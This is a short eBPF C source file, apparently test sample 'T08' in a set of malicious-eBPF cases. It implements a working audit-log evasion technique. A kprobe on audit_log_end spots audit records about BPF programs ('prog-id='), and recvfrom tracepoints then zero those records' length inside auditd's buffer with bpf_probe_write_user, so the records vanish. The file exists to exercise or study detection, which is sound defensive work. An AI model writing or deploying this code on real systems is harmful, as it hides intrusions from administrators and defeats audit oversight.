// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T08: audit records about the sample vanish: noticed at audit_log_end, their length zeroed in auditd's buffer.
#include "kernel_types.h"

SAMPLE_SWITCH;
LICENSE;

HASH(recv_buf, u64, u64, 64);
u32 drop_next;
u32 auditd_pid;

SEC("kprobe/audit_log_end")
int BPF_KPROBE(audit_mark, struct audit_buffer *ab)
{
	unsigned char *data = BPF_CORE_READ(ab, skb, data);
	char head[32] = {};

	bpf_probe_read_kernel(head, sizeof(head), data + 16);
	if (STARTS(head, "prog-id="))
		drop_next = 1;
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_recvfrom")
int audit_recv(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), buf = ctx->args[1];

	if (tgid() == auditd_pid)
		bpf_map_update_elem(&recv_buf, &id, &buf, BPF_ANY);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_recvfrom")
int audit_zero(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 *buf = bpf_map_lookup_elem(&recv_buf, &id);
	u32 zero = 0;

	if (!buf)
		return 0;
	if (drop_next && ctx->ret > 16) {
		if (sample_armed)
			bpf_probe_write_user((void *)*buf, &zero, sizeof(zero));
		drop_next = 0;
	}
	bpf_map_delete_elem(&recv_buf, &id);
	return 0;
}
